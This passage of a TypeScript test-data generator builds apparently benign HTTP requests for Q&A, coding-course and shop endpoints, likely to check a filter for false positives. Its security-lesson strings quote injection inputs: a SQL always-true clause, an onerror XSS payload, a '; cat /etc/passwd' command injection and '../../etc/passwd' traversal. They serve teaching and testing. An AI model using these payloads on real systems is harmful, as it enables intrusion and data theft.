  ['bash', 'set -euo pipefail\n: "${DIR:?DIR must be set}"\nrm -rf -- "${DIR}/build"'],
  ['bash', "ps aux | grep '[n]ode' | awk '{print $2}' | xargs -r kill -9"],
  ['bash', 'tar -czf "backup-$(date +%F).tar.gz" /var/www && scp backup-*.tar.gz me@backup.example.com:~/'],
  ['bash', 'sudo usermod -aG docker $USER\nnewgrp docker\ndocker ps'],
  [
    'bash',
    'while IFS= read -r -d \'\' file; do\n  echo "Processing: $file"\ndone < <(find . -type f -print0)',
  ],
  [
    'python',
    'import subprocess\n\np1 = subprocess.Popen(["ps", "aux"], stdout=subprocess.PIPE)\np2 = subprocess.Popen(["grep", "python"], stdin=p1.stdout, stdout=subprocess.PIPE)\np1.stdout.close()\nprint(p2.communicate()[0].decode())',
  ],
  ['python', "df = df.drop(columns=['legacy_id'], errors='ignore')\nprint(df.head())"],
  [
    'python',
    'with open("../data/input.txt", encoding="utf-8") as fh:\n    for line in fh:\n        print(line.rstrip())',
  ],
  [
    'python',
    'import numpy as np\nA = np.array([[2, 1], [1, 3]])\nw, v = np.linalg.eig(A)\nprint(w)  # [1.38196601 3.61803399]',
  ],
  [
    'javascript',
    "console.log([] + {}); // '[object Object]'\nconsole.log({} + []); // 0 in the console (block + unary plus)",
  ],
  [
    'javascript',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    "const res = await fetch('/api/items?limit=10', { headers: { Accept: 'application/json' } });\nif (!res.ok) throw new Error(`HTTP ${res.status}`);\nconst items = await res.json();",
  ],
  ['javascript', "document.querySelector('#out').textContent = userInput; // not innerHTML!"],
  [
    'c',
    '#include <stdio.h>\n\nint main(int argc, char *argv[]) {\n    char s[] = "hello";\n    char *p = "world";\n    printf("%s %s\\n", s, p);\n    return 0;\n}',
  ],
  [
    'rust',
    'fn main() {\n    let mut v = vec![1, 2, 3];\n    let first = &v[0];\n    v.push(4); // error[E0502]\n    println!("{first}");\n}',
  ],
  [
    'go',
    'f, err := os.Open("input.txt")\nif err != nil {\n\tlog.Fatal(err)\n}\ndefer f.Close()\nscanner := bufio.NewScanner(f)\nfor scanner.Scan() {\n\tfmt.Println(scanner.Text())\n}',
  ],
  [
    'powershell',
    'Get-ChildItem -Path "C:\\Logs" -Recurse -File |\n  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } |\n  Remove-Item -Force -WhatIf',
  ],
  [
    'php',
    "$in  = str_repeat('?,', count($ids) - 1) . '?';\n$stmt = $pdo->prepare(\"SELECT * FROM products WHERE id IN ($in)\");\n$stmt->execute($ids);\n$rows = $stmt->fetchAll(PDO::FETCH_ASSOC);",
  ],
  [
    'java',
    'ProcessBuilder pb = new ProcessBuilder("ls", "-l", "/tmp");\npb.redirectErrorStream(true);\nProcess p = pb.start();\ntry (var r = new BufferedReader(new InputStreamReader(p.getInputStream()))) {\n    r.lines().forEach(System.out::println);\n}\np.waitFor();',
  ],
  ['regex', "^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9-]+(?:\\.[a-zA-Z0-9-]+)*$"],
  [
    'dockerfile',
    'FROM node:24-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCOPY . .\nUSER node\nCMD ["node", "server.js"]',
  ],
  [
    'nginx',
    'location /api/ {\n    proxy_pass http://127.0.0.1:3000/;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}',
  ],
];
const INLINE = [
  '`SELECT DISTINCT`',
  '`IS NOT DISTINCT FROM`',
  "`COALESCE(email, '')`",
  '`"$@"`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  '`${var:-default}`',
  '`2>&1`',
  '`chmod 755`',
  '`/dev/null`',
  '`os.path.join()`',
  '`JSON.parse()`',
  '`&&`',
  '`||`',
  '`#include <stdlib.h>`',
  '`Vec<&str>`',
  "`$_GET['id']`",
  '`<div>`',
  '`onclick`',
  '`../`',
  '`git reset --hard HEAD~1`',
  '`sudo !!`',
];
const Q_PROSE = [
  'I have a table with about 2M rows and this query takes ~14 s. I already added an index on `customer_id`. What am I missing?',
  "I'm learning bash and tried this, but it fails when a filename contains spaces or a leading dash:",
  "Here's what I've tried so far. The output is empty and the exit code is 0, which confuses me.",
  'According to the docs this should work, but I get `ERROR 1093 (HY000)` instead. MySQL 8.0.36, InnoDB.',
  'Minimal reproducible example below. Expected output: `[1, 2, 3, 4]`; actual: a compile error.',
  'Is there a more idiomatic way to do this? It works, but it feels clunky and I suspect it is O(n²).',
  'I read that you should never concatenate user input into SQL — is using `%s` placeholders enough, or do I need to escape quotes myself?',
  'Edit: I forgot to mention that this runs in a cron job as root on Ubuntu 24.04 (bash 5.2).',
];
const A_PROSE = [
  'The short answer: use a parameterized query and let the driver do the quoting. Never build SQL with string concatenation.',
  'Your script breaks because the variable is unquoted. Always write `"$f"` rather than `$f` — word splitting and globbing happen otherwise.',
  "`UNION` removes duplicates (it has to sort or hash the result), `UNION ALL` doesn't, so `UNION ALL` is usually faster. Use `UNION` only when you need the de-duplication.",
  'MySQL does not allow the target table in a subquery of a DELETE/UPDATE. Wrap it in a derived table or use a multi-table DELETE as shown:',
  'It\'s undefined behaviour to modify a string literal, which is what `char *s = "..."` points to. `char s[]` copies it into a writable array.',
  "You cannot hold an immutable borrow (`first`) across a mutation of the vector, because `push` may reallocate. Clone the value or limit the borrow's scope.",
  'Add yourself to the `docker` group (then log out and in again). Be aware that membership in that group is equivalent to root on the host.',
  "Edit 2: as @kenji pointed out in the comments, `-print0` together with `read -d ''` is the only fully robust way.",
];
const MATH = [
  'Base case $n=1$: $1 = \\frac{1 \\cdot 2}{2}$. Step: assume $\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}$; then\n$$\\sum_{k=1}^{n+1} k = \\frac{n(n+1)}{2} + (n+1) = \\frac{(n+1)(n+2)}{2}.$$\n$\\blacksquare$',
  'For $A = \\begin{pmatrix} 2 & 1 \\\\ 1 & 3 \\end{pmatrix}$ solve $\\det(A - \\lambda I) = 0$, i.e. $\\lambda^2 - 5\\lambda + 5 = 0$, so $\\lambda_{1,2} = \\frac{5 \\pm \\sqrt{5}}{2}$.',
  'By Bayes: $$P(A \\mid B) = \\frac{P(B \\mid A)\\,P(A)}{P(B)} = \\frac{0.99 \\times 0.001}{0.0108} \\approx 9.2\\%.$$',
  'Use the Gaussian integral: $\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx = \\sqrt{\\pi}$, hence $\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}$.',
  'Merge sort satisfies $T(n) = 2T(n/2) + O(n)$, so by the master theorem $T(n) = O(n \\log n)$; the lower bound $\\Omega(n \\log n)$ follows from $\\log_2(n!)$.',
  'Let $f: \\mathbb{R} \\to \\mathbb{R}$, $f(x) = |x|$. Then $f$ is continuous at $0$ but $\\lim_{h \\to 0} \\frac{f(h) - f(0)}{h}$ does not exist (left limit $-1$, right limit $1$).',
  '\\begin{align}\n  (a+b)^n &= \\sum_{k=0}^{n} \\binom{n}{k} a^{n-k} b^k \\\\\n  \\binom{n}{k} &= \\frac{n!}{k!\\,(n-k)!}\n\\end{align}',
  'The set $S = \\{x \\in \\mathbb{Z} \\mid x^2 < 10\\}$ is $\\{-3, -2, \\dots, 3\\}$, so $|S| = 7$.',
  'With $\\text{RMSE} = \\sqrt{\\frac{1}{n}\\sum_{i=1}^{n}(y_i - \\hat{y}_i)^2}$ and $n = 50$ we get $0.42$; the $R^2$ is $0.87$ (i.e. 87 % explained).',
  'Expected value: $E[X] = \\sum_x x\\,p(x) = 1 \\cdot \\tfrac16 + \\dots + 6 \\cdot \\tfrac16 = 3.5$ and $\\operatorname{Var}(X) = \\tfrac{35}{12}$.',
];
const COMMENTS = [
  'Did you try `EXPLAIN ANALYZE`? My guess is a seq scan because of the `OR`.',
  'This deletes the wrong rows if `ref` can be NULL — careful!',
  '+1, but note that `xargs -r` is a GNU extension; on macOS use `xargs` without `-r`.',
  'Thanks, that fixed it! Quoting was the issue all along 🤦‍♂️',
  'Possible duplicate of "How do I iterate over files with spaces?" (question 1834)',
  "Nitpick: it's $O(n \\log n)$ on average, $O(n^2)$ worst case for quicksort, not merge sort.",
  'Works on PostgreSQL 16, not on 12 — `IF EXISTS` for `DROP COLUMN` is fine, though.',
  'Please post the full error message and your `docker version` output.',
  "@maria_db you don't need the `;` inside the `-exec`, only the escaped one at the end",
  'Could you accept the answer if it solved your problem? 🙂',
];
const QUIZ: readonly {
  readonly prompt: string;
  readonly starterCode: string;
  readonly solution: string;
  readonly tags: string[];
}[] = [
  {
    prompt:
      '### Exercise 3.2 — Joins\nList every customer together with the number of orders they placed in 2026, **including** customers without orders. Sort by the count, descending.\n\n_Hint_: think about which side of a `LEFT JOIN` keeps unmatched rows.',
    starterCode: '-- Tables: customers(id, name), orders(id, customer_id, created_at)\nSELECT ...',
    solution:
      "SELECT c.name, COUNT(o.id) AS n\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id AND o.created_at >= '2026-01-01'\nGROUP BY c.id, c.name\nORDER BY n DESC;",
    tags: ['sql', 'joins'],
  },
  {
    prompt:
      '### Exercise 5.1 — Cleaning up\nDelete all rows of `sessions` whose `expires_at` is in the past, then drop the temporary table `tmp_import` if it exists. What happens if you run the script twice?',
    starterCode: '-- write two statements',
    solution: 'DELETE FROM sessions WHERE expires_at < NOW();\nDROP TABLE IF EXISTS tmp_import;',
    tags: ['sql', 'ddl'],
  },
  {
    prompt:
      '### Lab 2 — Pipes\nPrint the 5 most frequent IP addresses in `access.log` (first field), with their counts. Use only `cut`, `sort`, `uniq` and `head`.',
    starterCode: '#!/usr/bin/env bash\n# your pipeline here\n',
    solution: "#!/usr/bin/env bash\ncut -d' ' -f1 access.log | sort | uniq -c | sort -rn | head -5",
    tags: ['shell', 'pipes'],
  },
  {
    prompt:
      '### Lab 4 — Permissions\nMake `deploy.sh` executable for its owner only, then run it in the background and write both stdout and stderr to `deploy.log`.\n\nQuestion: why does `./deploy.sh > deploy.log 2>&1 &` work but `./deploy.sh 2>&1 > deploy.log &` not?',
    starterCode: '# two commands',
    solution: 'chmod u+x deploy.sh\n./deploy.sh > deploy.log 2>&1 &',
    tags: ['shell', 'permissions'],
  },
  {
    prompt:
      '### Quiz — Window functions\nWhich query returns the running total of `amount` per `account_id` ordered by `booked_at`?\n\n- (a) `SUM(amount) GROUP BY account_id`\n- (b) `SUM(amount) OVER (PARTITION BY account_id ORDER BY booked_at)`\n- (c) `SUM(amount) OVER ()`',
    starterCode: '-- pick (a), (b) or (c) and write the full query',
    solution:
      'SELECT account_id, booked_at, amount,\n       SUM(amount) OVER (PARTITION BY account_id ORDER BY booked_at) AS running_total\nFROM transactions;',
    tags: ['sql', 'window-functions'],
  },
  {
    prompt:
      '### Exercise 7 — Processes\nFind the PID of the process listening on port 8080 and stop it gracefully (SIGTERM), then forcefully if it is still alive after 5 seconds.',
    starterCode: '#!/bin/sh\n',
    solution:
      '#!/bin/sh\npid=$(lsof -t -i :8080)\nkill "$pid"\nsleep 5\nkill -0 "$pid" 2>/dev/null && kill -9 "$pid"',
    tags: ['shell', 'processes'],
  },
];
const SUBMISSIONS: readonly (readonly [string, string])[] = [
  [
    'sql',
    "SELECT c.name, COUNT(o.id) AS n FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.created_at >= '2026-01-01' GROUP BY c.name ORDER BY n DESC;",
  ],
  ['bash', "cat access.log | awk '{print $1}' | sort | uniq -c | sort -nr | head -n 5"],
  [
    'python',
    'import sys\n\ndef fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n\nprint(fib(int(sys.stdin.readline())))',
  ],
  [
    'javascript',
    "const lines = require('fs').readFileSync(0, 'utf8').trim().split('\\n');\nconsole.log(lines.map(Number).reduce((a, b) => a + b, 0));",
  ],
  [
    'c',
    '#include <stdio.h>\nint main(void){long n,s=0;while(scanf("%ld",&n)==1)s+=n;printf("%ld\\n",s);return 0;}',
  ],
  ['sql', 'DELETE FROM sessions WHERE expires_at < now(); DROP TABLE IF EXISTS tmp_import;'],
  ['bash', '#!/bin/sh\nchmod u+x deploy.sh && ./deploy.sh > deploy.log 2>&1 &\necho $!'],
  [
    'java',
    'import java.util.*;\npublic class Main { public static void main(String[] a) { Scanner s = new Scanner(System.in); System.out.println(s.nextLine().toUpperCase()); } }',
  ],
];
/** Security-course content that quotes classic payloads as teaching material (kind `qa-security`). */
const SECURITY_QA = [
  "### Why is this login vulnerable?\n\n```php\n$sql = \"SELECT * FROM users WHERE name = '\" . $_POST['name'] . \"'\";\n```\n\nIf a user types `' OR '1'='1` as the name, the `WHERE` clause is always true. Fix it with a prepared statement.",
  '### Quiz: which of these is NOT a mitigation for XSS?\n\n- (a) output encoding\n- (b) a strict Content-Security-Policy\n- (c) `HttpOnly` cookies\n- (d) blocking the word "script" in inputs\n\nAnswer: (d) — e.g. `<img src=x onerror=alert(1)>` contains no "script" at all.',
  '### Command injection 101\n\nA ping form that runs `ping -c 1 $host` is vulnerable: entering `8.8.8.8; cat /etc/passwd` runs a second command. Use `execFile` with an argument array instead of a shell string.',
  '### Path traversal\n\nServing `/files?name=report.pdf` by joining the name to a base directory lets `../../etc/passwd` escape it. Resolve the path and check that it still starts with the base directory.',
];

// Questions (16)
for (let i = 0; i < 16; i++) {
  const [lang, code] = nth(FENCES, i * 3);
  addClean(
    'question',
    'POST',
    '/api/2.3/questions/add',
    J,
    json({
      title: nth(Q_TITLES, i),
      body: `${nth(Q_PROSE, i)}\n\n\`\`\`${lang}\n${code}\n\`\`\`\n\nI also tried ${nth(INLINE, i)} and ${nth(INLINE, i + 7)}, same result.${i % 4 === 0 ? `\n\n${nth(Q_PROSE, i + 7)}` : ''}`,
      tags: [lang, nth(['performance', 'quoting', 'linux', 'postgresql', 'mysql', 'syntax'], i)],
      preview: false,
    }),
    'browser',
  );
}
// Answers (16)
for (let i = 0; i < 16; i++) {
  const [lang, code] = nth(FENCES, i * 7 + 2);
  addClean(
    'answer',
    'POST',
    `/api/2.3/questions/${int(70000000, 79999999)}/answers/add`,
    J,
    json({
      body: `${nth(A_PROSE, i)}\n\n\`\`\`${lang}\n${code}\n\`\`\`\n\n${i % 3 === 0 ? `See also the [manual](https://www.postgresql.org/docs/current/queries-union.html) and ${nth(INLINE, i + 3)}.` : `> ${nth(COMMENTS, i)}\n\nHope that helps!`}`,
      notify: i % 2 === 0,
    }),
    i % 2 === 0 ? 'browser' : 'sdk',
  );
}
// Edits of questions/answers with a revision comment (5)
for (let i = 0; i < 5; i++) {
  addClean(
    'answer',
    'PATCH',
    `/api/2.3/answers/${int(70000000, 79999999)}`,
    MERGE,
    json({
      body: `${nth(A_PROSE, i + 2)}\n\n${nth(INLINE, i)} vs ${nth(INLINE, i + 10)}:\n\n    ${nth(FENCES, i + 4)[1].split('\n')[0]}\n`,
      revisionComment: nth(
        [
          'fixed typo',
          'added the `UNION ALL` example',
          'clarified quoting; thanks @kenji',
          'removed the `rm -rf` footgun',
        ],
        i,
      ),
    }),
    'browser',
  );
}
// Comments (14)
for (let i = 0; i < 14; i++) {
  addClean(
    'comment',
    'POST',
    `/api/2.3/posts/${int(70000000, 79999999)}/comments/add`,
    FORM,
    form({ body: nth(COMMENTS, i), fkey: hex(32) }),
    'browser',
  );
}
// LaTeX math (8)
for (let i = 0; i < 8; i++) {
  addClean(
    'math',
    'POST',
    i % 2 === 0 ? `/api/2.3/questions/${int(4000000, 4999999)}/answers/add` : '/api/2.3/questions/add',
    J,
    json(
      i % 2 === 0
        ? { body: nth(MATH, i) }
        : {
            title: nth(Q_TITLES, 7 + (i % 3) * 10),
            body: `I'm stuck on this:\n\n${nth(MATH, i)}\n\nIs my reasoning correct?`,
            tags: ['math', 'proof-writing'],
          },
    ),
    'browser',
  );
}
// Quiz/exercise authoring (excluded: starterCode, solution) (6)
for (let i = 0; i < 6; i++) {
  const q = nth(QUIZ, i);
  addClean(
    'quiz',
    i % 2 === 0 ? 'POST' : 'PUT',
    i % 2 === 0 ? '/api/v1/courses/sql-101/exercises' : `/api/v1/exercises/${int(100, 999)}`,
    J,
    json({
      title: q.prompt.split('\n')[0]?.replace(/^#+ /, ''),
      prompt: q.prompt,
      starterCode: q.starterCode,
      solution: q.solution,
      tags: q.tags,
      points: int(1, 10),
      hints: ['Read the error message carefully.', 'Try it on the sample data first.'],
    }),
    'browser',
  );
}
// Grader submissions (excluded: source) (8)
for (let i = 0; i < 8; i++) {
  const [language, source] = nth(SUBMISSIONS, i);
  addClean(
    'code',
    'POST',
    `/api/v1/exercises/${int(100, 999)}/submissions`,
    J,
    json({ language, source, stdin: nth(['5\n', '1\n2\n3\n', '', 'hello world\n'], i), runTests: true }),
    'browser',
  );
}
// Security-course teaching material (4)
for (let i = 0; i < 4; i++) {
  addClean(
    'qa-security',
    'POST',
    '/api/v1/courses/websec-101/lessons',
    J,
    json({
      title: nth(['SQL injection', 'XSS quiz', 'Command injection', 'Path traversal'], i),
      body: nth(SECURITY_QA, i),
      published: true,
    }),
    'browser',
  );
}
// Q&A searches (10)
const QA_SEARCHES = [
  'select where null postgres',
  '"cannot borrow" mutable more than once',
  '[bash] files with spaces',
  'union all vs union performance',
  "escape single quote o'brien sql",
  'is:question [python] subprocess pipe answers:0',
  'drop column if exists pandas',
  'user:1234 [c] char* vs char[]',
  'docker.sock permission denied',
  'rm -rf unset variable',
];
for (let i = 0; i < 10; i++) {
  addClean(
    'search',
    'GET',
    `/api/2.3/search/advanced?${qs([
      ['q', nth(QA_SEARCHES, i)],
      ['order', 'desc'],
      ['sort', nth(['relevance', 'votes', 'activity'], i)],
      ['site', 'stackwise'],
    ])}`,
    null,
    '',
    'any',
  );
}
// Q&A GraphQL (4)
const QA_GQL =
  'mutation PostAnswer($questionId: ID!, $input: AnswerInput!) {\n  postAnswer(questionId: $questionId, input: $input) {\n    answer { id score createdAt }\n    errors { field message }\n  }\n}';
for (let i = 0; i < 4; i++) {
  const [lang, code] = nth(FENCES, i * 5 + 1);
  addClean(
    'graphql',
    'POST',
    '/graphql',
    J,
    json({
      operationName: 'PostAnswer',
      query: QA_GQL,
      variables: {
        questionId: String(int(70000000, 79999999)),
        input: { body: `${nth(A_PROSE, i + 1)}\n\n\`\`\`${lang}\n${code}\n\`\`\``, notify: true },
      },
    }),
    'browser',
  );
}

// ================================================================================= (4) e-commerce search + reviews

const SEARCHES = [
  '"noise cancelling" headphones -wired',
  'laptop (16gb OR 32gb) -refurbished',
  'brand:"L\'Oréal" serum',
  'tv 55" 4k hdr',
  '1/2" drill bit set',
  "o'neill wetsuit 4/3mm",
  '"drop leaf" table',
  'select comfort mattress topper',
  'union jack cushion',
  'harry potter order of the phoenix hardcover',
  'select * from t-shirt',
  'c++ primer 6th edition',
  'c# in depth',
  'usb-c hub 4k@60hz 100w',
  "M&M's peanut 1kg",
  "Ben & Jerry's cookie dough",
  'kill a watt meter',
  'cat tree 180cm',
  'echo dot 5th gen',
  'sleep mask 100% silk',
  '<3 necklace sterling silver',
  'iphone 15 | 15 pro case',
  'rating:>=4 price:<50 "yoga mat"',
  'size:42 color:black "dr. martens" 1460',
  'script writing book for beginners',
  'bash guitar strap',
  '~/.ssh mug',
  'sudo make me a sandwich t-shirt',
  'ping pong table outdoor',
  'wd-40 400ml',
  'crème brûlée torch',
  'lego 42115 lamborghini',
  'fenêtre anti-bruit',
  'kinder fahrrad 20 zoll',
  '冷蔵庫 2ドア',
  'zapatillas running mujer talla 38',
  'AND gate ic 74hc08',
  'rm 5 pro charger',
  'drop test rugged phone',
  'hdmi 2.1 cable 2m -"gold plated"',
];
const FILTER_QS: readonly (readonly (readonly [string, string])[])[] = [
  [
    ['q', 'shoes'],
    ['filter[brand][]', 'nike'],
    ['filter[brand][]', 'adidas'],
    ['filter[size]', '42'],
    ['price[gte]', '50'],
    ['price[lte]', '120'],
    ['sort', '-rating,price'],
  ],
  [
    ['category', 'home/kitchen/cookware'],
    ['material', 'cast-iron'],
    ['in_stock', 'true'],
    ['page[number]', '2'],
    ['page[size]', '24'],
  ],
  [
    ['q', 'jacket'],
    ['facets', 'color,size,brand'],
    ['color', 'navy|black'],
    ['sort', 'relevance'],
    ['lang', 'de'],
  ],
  [
    ['fields[products]', 'name,price,rating'],
    ['include', 'brand,images'],
    ['filter[rating][gte]', '4'],
  ],
  [
    ['q', 'tv'],
    ['screen_size', '50-65'],
    ['resolution', '4k'],
    ['hdr', 'dolby vision,hdr10+'],
    ['sort', 'price_asc'],
  ],
  [
    ['brand', "Levi's"],
    ['fit', 'slim & tapered'],
    ['waist', '32'],
    ['length', '34'],
    ['sale', '1'],
  ],
  [
    ['q', 'coffee'],
    ['filter', 'type:beans AND roast:(dark OR medium)'],
    ['per_page', '48'],
  ],
  [
    ['sku', 'SKU-10293,SKU-10294,SKU-10295'],
    ['fields', 'availability,price'],
    ['store', 'union-square'],
  ],
  [
    ['q', 'drone'],
    ['max_weight', '<250g'],
    ['features[]', '4k'],
    ['features[]', 'gps'],
    ['sort', 'newest'],
  ],
  [
    ['near', '48.8566,2.3522'],
    ['radius', '10km'],
    ['q', 'pharmacie'],
    ['open_now', 'true'],
  ],
];
const REVIEW_TITLES = [
  'Best purchase this year!!! ⭐⭐⭐⭐⭐',
  "Doesn't fit as expected",
  'Drop-in replacement for my old one',
  'Select a size up',
  'Meh. 3/5',
  'Kids love it ❤️',
  "Update: after 6 months it's still great",
  'DO NOT BUY — broke after 2 weeks 😡',
  'Great value for €29.99',
  'My cat approves 🐱',
];
const REVIEWS = [
  "Absolutely love these headphones 😍🎧 The noise cancelling is insane — I can't hear my neighbour's drum kit anymore. Battery lasts ~30 h. 10/10 would buy again!",
  "I'd select this over the Sony any day. Only con: the case is a bit bulky. Pros: sound, comfort, price (got it for $199 on Black Friday).",
  'Survived a drop from the kitchen table onto tiles, not a scratch. The union of the strap and the case feels solid. Update: still fine after 3 months.',
  "Sizing runs small — I'm normally a 42 and had to order a 43. Returned the first pair, exchange was quick & easy. 4/5",
  'Ordered on Monday, arrived Wednesday. Where do I even begin... the color is more orange than the photo shows. Otherwise OK.',
  'My kids (5 & 8) play with it every day. Some pieces are tiny, so not for under-3s! Instructions were clear, took us ~2 h to build. <3',
  "The delete key sticks a bit and the backlight only has 3 levels. For 49,99 € it's fine though. Typing on it right now 😅",
  'Broke after 2 weeks. Customer service said "it\'s user error" — seriously?! Drop this brand. 1 star because 0 isn\'t possible.',
  'Cat ignored the expensive bed and now sleeps in the box it came in 🤷‍♀️ — as expected. Box: 5 stars. Bed: 2 stars.',
  "Bought this as a gift for my dad (he's 6'2\", 110 kg) — XL fits him perfectly. Material is 100% cotton, washes well at 40 °C.",
  'Works great with my MacBook Pro M3 and a 4K@60Hz monitor. Gets warm (~45 °C) when charging at 100 W. Ethernet port does 940 Mbit/s.',
  'Sehr gute Qualität, schnelle Lieferung. Einziger Kritikpunkt: die Anleitung ist nur auf Englisch. Würde ich wieder kaufen 👍',
  "Produit conforme à la description, mais l'emballage était abîmé. Le service client a été très réactif. 4/5 ⭐",
  'Insert the cartridge, twist until it clicks, done. No more leaks. Order by 2 pm and it ships the same day — impressive.',
  "The 'kill switch' on this power strip saved my PC during a surge. Echoing the other reviews: buy it.",
  'Great script-writing book. Chapter 4 on dialogue alone is worth the price. Note: the Kindle version has formatting issues in the tables.',
  'Sleep quality improved noticeably. I use it with the white noise app, set to 45 dB. Bash me if you want, but €89 is fair.',
  'Exactly what I needed for `ssh` sessions at 3 am ☕ — the ~/.ssh mug is a great gift for sysadmins. Print is dishwasher-safe.',
  'Select comfort? More like select discomfort... too firm for side sleepers. Returned it within the 100-night trial, no questions asked.',
  'Good quality, but the "1/2 inch" bits are actually 12 mm. Measure before you drill into tiles! -- Mark',
];
const PRODUCT_QUESTIONS = [
  'Does this work with 220–240 V or only 110 V?',
  "Is the 'large' size suitable for a 35 kg dog?",
  'Can I use it with an iPhone 15 Pro (USB-C) & a Windows laptop at the same time?',
  "What's the difference between model 1460 and 1461?",
  'Is the cotton organic (GOTS-certified)? The label says "100% cotton" only.',
];

// Product search GETs (40)
for (let i = 0; i < 40; i++) {
  addClean(
    'search',
    'GET',
    `/api/v3/search?${qs([['q', nth(SEARCHES, i)], ...(i % 3 === 0 ? [['page', String(int(1, 5))] as const] : []), ...(i % 4 === 1 ? [['sort', nth(['-rating', 'price', 'newest'], i)] as const] : [])])}`,
    null,
    '',
    i % 2 === 0 ? 'browser' : 'sdk',
  );
}
// Filter / facet query strings (10)
for (let i = 0; i < 10; i++) {
  addClean('filter-query', 'GET', `/api/v3/products?${qs(nth(FILTER_QS, i))}`, null, '', 'any');
}
// Autocomplete / suggest (6)
for (let i = 0; i < 6; i++) {
  const s = nth(SEARCHES, i * 7 + 3);
  addClean(
    'search',
    'GET',
    `/api/v3/suggest?prefix=${enc(s.slice(0, int(3, s.length)))}&limit=8`,
    null,
    '',
    'browser',
  );
}
// Reviews (22)
for (let i = 0; i < 22; i++) {
  addClean(
    'review',
    'POST',
    `/api/v3/products/${int(100000, 999999)}/reviews`,
    J,
    json({
      rating: nth([5, 2, 4, 4, 3, 5, 5, 1, 4, 5], i),
      title: nth(REVIEW_TITLES, i),
      body: nth(REVIEWS, i),
      author: {
        displayName: nth(["Seán O'C.", 'Zoë N.', 'mark_the_diy_guy', 'Hạnh', 'J-L L.', 'Kasia 🌸'], i),
        verifiedPurchase: i % 3 !== 2,
      },
      pros: i % 2 === 0 ? ['sound', 'battery (~30 h)'] : [],
      cons: i % 2 === 0 ? ['bulky case'] : ["doesn't fold"],
      variant: {
        size: nth(['42', 'XL', '1/2"', 'One size'], i),
        color: nth(['Navy', 'Black/White', 'Crème'], i),
      },
      images:
        i % 5 === 0
          ? [{ url: `https://cdn.shopfront.example.com/ugc/${hex(16)}.jpg`, alt: 'Photo from customer' }]
          : [],
      locale: nth(['en-US', 'en-GB', 'de-DE', 'fr-FR'], i),
    }),
    i % 2 === 0 ? 'browser' : 'sdk',
  );
}
// Review votes and reports as forms (4)
for (let i = 0; i < 4; i++) {
  addClean(
    'form',
    'POST',
    `/reviews/${int(100000, 999999)}/${i % 2 === 0 ? 'vote' : 'report'}`,
    FORM,
    form(
      i % 2 === 0
        ? { helpful: 'yes', _csrf: hex(32) }
        : {
            reason: nth(['spam', 'offensive', 'not about the product'], i),
            details: nth(
              [
                "Looks like a copy-paste of another review — same 'drop test' story.",
                'Contains a phone number & an external link.',
                'Reviewer says "1 star" but selected 5?',
              ],
              i,
            ),
            _csrf: hex(32),
          },
    ),
    'browser',
  );
}
// Product Q&A (5)
for (let i = 0; i < 5; i++) {
  addClean(
    'review',
    'POST',
    `/api/v3/products/${int(100000, 999999)}/questions`,
    J,
    json({
      question: nth(PRODUCT_QUESTIONS, i),
      nickname: nth(['dogmom_77', 'Pádraig', 'anon'], i),
      notifyByEmail: true,
    }),
    'browser',
  );
}
// Storefront GraphQL (6)
const SHOP_GQL = [
  {
    q: 'query Search($query: String!, $first: Int = 24, $filters: [ProductFilter!], $sortKey: SearchSortKeys) {\n  search(query: $query, first: $first, productFilters: $filters, sortKey: $sortKey, types: [PRODUCT]) {\n    totalCount\n    edges { node { ... on Product { id title handle priceRange { minVariantPrice { amount currencyCode } } } } }\n  }\n}',
    v: (i: number) => ({
      query: nth(SEARCHES, i * 5),
      first: 24,
      filters: [
        { price: { min: 10, max: 200 } },
        { productVendor: nth(["L'Oréal", 'Dr. Martens', "Ben & Jerry's"], i) },
        { variantOption: { name: 'Size', value: '42' } },
      ],
      sortKey: 'RELEVANCE',
    }),
  },
  {
    q: 'mutation ReviewCreate($input: ReviewInput!) {\n  reviewCreate(input: $input) { review { id status } userErrors { field message } }\n}',
    v: (i: number) => ({
      input: {
        productId: `gid://shopfront/Product/${int(1000000, 9999999)}`,
        rating: nth([5, 4, 1], i),
        title: nth(REVIEW_TITLES, i + 3),
        body: nth(REVIEWS, i + 10),
      },
    }),
  },
];
for (let i = 0; i < 6; i++) {
  const g = nth(SHOP_GQL, i);
  addClean(
    'graphql',
    'POST',
    '/api/storefront/graphql',
    J,
    json({ query: g.q, variables: g.v(i) }),
    'browser',
    {
      'x-shopfront-storefront-access-token': hex(32),
    },
  );
}
// NDJSON product feed and review export (4)
for (let i = 0; i < 4; i++) {
  const lines: string[] = [];
  for (let n = 0; n < 4; n++)
    lines.push(
      i % 2 === 0
        ? json({
            sku: `SKU-${int(10000, 99999)}`,
            title: nth(
              [
                'Dr. Martens 1460 Smooth – Black, EU 42',
                "L'Oréal Revitalift 1.5% Hyaluronic Serum 30 ml",
                'Union Jack Cushion 45×45 cm',
                'WD-40 Multi-Use 400 ml',
                'Crème brûlée torch (butane, refillable)',
              ],
              n,
            ),
            price: { amount: money(), currency: 'EUR' },
            gtin: String(int(1000000000000, 9999999999999)),
            attributes: {
              material: nth(['100% cotton', 'leather & rubber', 'stainless steel (18/10)'], n),
              size: nth(['42', '30 ml', '45×45 cm'], n),
            },
            description: nth(COPY, n + i),
          })
        : json({
            reviewId: hex(12),
            rating: int(1, 5),
            title: nth(REVIEW_TITLES, n + i),
            body: nth(REVIEWS, n + i * 5),
            createdAt: `${day()}T12:00:00Z`,
          }),
    );
  addClean(
    'ndjson',
    'POST',
    i % 2 === 0 ? '/api/v3/catalog/import' : '/api/v3/reviews/import',
    NDJSON,
    `${lines.join('\n')}\n`,
    'sdk',
  );
}
// Shop order webhooks (4)
for (let i = 0; i < 4; i++) {
  addClean(
    'webhook',
    'POST',
    '/hooks/shop/orders',
    J,
    json({
      id: int(5000000000, 5999999999),
